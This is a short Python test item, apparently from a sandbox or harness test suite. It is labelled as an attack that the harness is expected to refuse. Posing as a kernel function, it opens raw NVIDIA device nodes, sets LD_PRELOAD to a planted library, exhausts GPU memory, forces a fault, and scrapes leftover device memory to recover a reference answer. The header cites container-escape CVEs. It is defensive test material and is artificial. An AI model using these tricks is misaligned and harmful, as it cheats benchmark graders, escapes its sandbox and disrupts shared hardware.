# /// attack
# title = "opens the GPU's devices, shows itself the GPU again, fills its memory and makes it fault"
# aim = "a device that fails for the next answer, or its memory as the reference left it"
# source = "KernelBench PR 92; CVE-2024-0132; CVE-2025-23266"
# framework = "torch"
# refused = true
# ///
import glob
import os

import torch

from targets import attempt

os.environ.update(CUDA_VISIBLE_DEVICES="0", NVIDIA_VISIBLE_DEVICES="all", LD_PRELOAD="libplanted.so", CUDA_LAUNCH_BLOCKING="1")
DEVICES = ["/dev/nvidia0", "/dev/nvidiactl", "/dev/nvidia-uvm", "/dev/dri/renderD128", "/dev/kfd", *glob.glob("/dev/nvidia*")]
for device in DEVICES:
    attempt(open, device, "r+b", 0)
attempt(torch.cuda.init)
attempt(torch.cuda.mem_get_info)


def fill():
    kept = []
    while True:
        kept.append(torch.empty(1 << 28, device="cuda"))


def fault():
    x = torch.zeros(4, device="cuda")
    x[torch.tensor([10**9], device="cuda")] = 1
    torch.cuda.synchronize()


def found():
    return torch.empty(1 << 20, device="cuda").cpu().unique()


def double(x):
    for trick in (found, fault, fill):
        attempt(trick)
    return x
